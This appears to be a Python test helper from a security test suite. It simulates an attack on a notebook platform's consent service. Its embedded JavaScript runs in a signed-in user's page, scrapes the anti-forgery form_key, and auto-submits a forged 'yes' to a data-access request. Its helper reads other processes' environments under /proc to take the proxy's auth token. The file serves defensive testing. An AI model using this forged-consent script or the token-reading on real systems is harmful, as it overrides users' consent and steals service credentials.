"""A script in a person's own page at Lab: it has the person's cookies, and the edge's pages within reach."""

from __future__ import annotations

import json
import pwd
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager, nullcontext
from pathlib import Path
from typing import Any

import httpx
from playwright.sync_api import Browser, Page

from tests.bypass.attack import Control, Ground
from workbench.settings import Settings

EDGE = "/services/edge"
ASK = """
purpose = call("POST", "/purposes", WHY)["body"]["purpose_id"]
search(purpose, ARGUMENTS[0], window=json.loads(ARGUMENTS[1]))
"""
AGAIN = "search(ARGUMENTS[0], ARGUMENTS[1], window=json.loads(ARGUMENTS[2]))"
FORGE = """
async ([edge, assent]) => {
  const page = await (await fetch(`${edge}/assents/${assent}`)).text();
  const key = page.match(/name="form_key" value="([^"]+)"/);
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: `${edge}/assents` });
  const said = { assent, granted: "yes", note: "", form_key: key ? key[1] : "" };
  for (const [name, value] of Object.entries(said)) {
    form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  }
  document.body.append(form);
  setTimeout(() => form.submit(), 0);
}
"""
"""As good as it gets: the form is sent as a person's would be, by a navigation of the whole page."""


def in_lab(browser: Browser, ground: Ground, who: str) -> Page:
    """This person's own page, signed in; what is evaluated in it is what an output of a kernel could run."""
    house = ground.house
    house.environment(who)
    page = browser.new_context().new_page()
    page.set_default_timeout(60_000)
    page.goto(f"{house.url}/hub/login?next=%2Fhub%2Fhome")
    page.get_by_label("Username").fill(who)
    page.get_by_label("Password").fill(house.passwords[who])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url("**/hub/home")
    page.goto(f"{house.url}/user/{who}/lab", wait_until="domcontentloaded")
    return page


def attack(
    browser: Browser, ground: Ground, who: str, pattern: str, window: dict[str, str] | None
) -> tuple[str, str, int]:
    """Ana's kernel asks, a script in somebody's page says yes: the assent, the last page's heading, and the reads."""
    declared, asked = ground.attack("ana", ASK, pattern, json.dumps(window))
    assent = asked.body["assent"]
    heading = answers(browser, ground, who, assent)
    (again,) = ground.attack("ana", AGAIN, declared.body["purpose_id"], pattern, json.dumps(window))
    return assent, heading, again.reads


def answers(browser: Browser, ground: Ground, who: str, assent: str) -> str:
    """Have a script in this person's page say yes to a question; the heading of what comes back."""
    page = in_lab(browser, ground, who)
    with edge_of(ground):
        with page.expect_navigation(url=lambda url: "/user/" not in url):
            page.evaluate(FORGE, [EDGE, assent])
        page.wait_for_load_state("domcontentloaded")
        heading = page.get_by_role("heading", level=1).inner_text()
    page.context.close()
    return heading


@contextmanager
def edge_of(ground: Ground) -> Iterator[None]:
    """The pages of this custodian: a control gets an edge of its own, put in the product's place meanwhile."""
    with _instead(ground) if isinstance(ground, Control) else nullcontext():
        yield


@contextmanager
def _instead(control: Control) -> Iterator[None]:
    product = control.house.data / "config" / "workbench.toml"
    account = pwd.getpwnam("alpr-edge")
    port = Settings.load(control.data / "config.toml").edge.port
    process = subprocess.Popen(
        [control.house.python, "-I", "-m", "workbench.edge"],
        env=_environment("alpr-edge", f"ALPR_CONFIG={product}") | {"ALPR_CONFIG": str(control.data / "config.toml")},
        user=account.pw_uid,
        group=account.pw_gid,
        extra_groups=[],
        cwd="/",
    )
    token = _environment("alpr-proxy", f"ALPR_CONFIG={product}")["CONFIGPROXY_AUTH_TOKEN"]
    routes = Routes(f"http://127.0.0.1:{control.house.port + 1}", token)
    before = routes.get()
    try:
        _wait(f"http://127.0.0.1:{port}{EDGE}/health", process)
        routes.put({**before, "target": f"http://127.0.0.1:{port}"})
        yield
    finally:
        routes.put(before)
        process.kill()
        process.wait(30)


class Routes:
    """The proxy's own door, with the secret that root can read."""

    def __init__(self, url: str, token: str) -> None:
        self._http = httpx.Client(headers={"Authorization": f"token {token}"}, base_url=url, trust_env=False)

    def get(self) -> dict[str, Any]:
        """Where the edge's pages lead."""
        found: dict[str, Any] = self._http.get("/api/routes").raise_for_status().json()[EDGE]
        return found

    def put(self, route: dict[str, Any]) -> None:
        """Lead them there."""
        self._http.post(f"/api/routes{EDGE}", json=route).raise_for_status()


def _environment(account: str, having: str) -> dict[str, str]:
    """The environment of the running process of this account that has this in it."""
    uid = pwd.getpwnam(account).pw_uid
    for entry in Path("/proc").iterdir():
        try:
            if not entry.name.isdigit() or entry.stat().st_uid != uid:
                continue
            parts = (entry / "environ").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue  # it ended meanwhile
        if having in parts:
            return dict(part.split("=", 1) for part in parts if "=" in part)
    raise LookupError(f"no process of {account} with {having}")


def _wait(url: str, process: subprocess.Popen[bytes]) -> None:
    for _ in range(300):
        try:
            httpx.get(url, trust_env=False).raise_for_status()
        except httpx.HTTPError:
            assert process.poll() is None, "the control edge did not start"
            subprocess.run(["sleep", "0.1"], check=True)
        else:
            return
    raise TimeoutError("the control edge does not answer")
